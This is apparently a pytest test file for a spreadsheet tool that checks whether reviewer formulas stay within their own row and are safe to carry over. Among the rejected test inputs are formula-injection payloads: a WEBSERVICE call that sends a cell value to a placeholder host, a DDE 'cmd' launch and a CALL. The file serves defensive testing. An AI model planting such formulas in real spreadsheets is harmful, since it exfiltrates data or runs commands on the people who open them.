"""A formula in a reviewer's own column is carried where it only reckons with its own row."""

from __future__ import annotations

import pytest

from yoy.model import RowFormula
from yoy.review.formulas import harmless, portable

NAMES = {1: "key", 2: "value_2018", 3: "own:折算"}


@pytest.mark.parametrize("formula", ["=ROUND(B5*1.5,1)", '=IF(B5>0,"WEBSERVICE(|)","")', "=B5/2"])
def test_what_reckons_is_carried(formula: str) -> None:
    assert harmless(formula)
    assert portable(formula, 5, NAMES) == RowFormula(formula.replace("B5", "{value_2018}"))


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://x.example/"&B5)',
        "=cmd|'/C calc'!B5",
        '=HYPERLINK("http://x.example",B5)',
        "=CALL(B5)",
    ],
)
def test_what_fetches_or_runs_is_not(formula: str) -> None:
    assert not harmless(formula)
    assert portable(formula, 5, NAMES) is None


LATER = {2: "value_2017", 3: "value_2018", 4: "own:核定数"}


@pytest.mark.parametrize(
    ("formula", "template"),
    [
        ("=C5-B5", "={value_2018}-{value_2017}"),
        ("=$C$5/B5", "={value_2018}/{value_2017}"),
        ('=IF(D5>0,"C5",B5)', '=IF({own:核定数}>0,"C5",{value_2017})'),
        ("=ROUND(C5*1.5,2)", "=ROUND({value_2018}*1.5,2)"),
        ("=1+1", "=1+1"),
    ],
)
def test_columns_are_called_by_their_names(formula: str, template: str) -> None:
    made = portable(formula, 5, LATER)
    assert made is not None
    assert made.template == template


@pytest.mark.parametrize(
    "formula", ["=B6", "=SUM(B5:C5)", "=Sheet2!B5", "='其他 表'!B5", "=[1]x!B5", "=E5", "={1,2}"]
)
def test_what_reaches_beyond_its_row_cannot_be_carried(formula: str) -> None:
    assert portable(formula, 5, LATER) is None
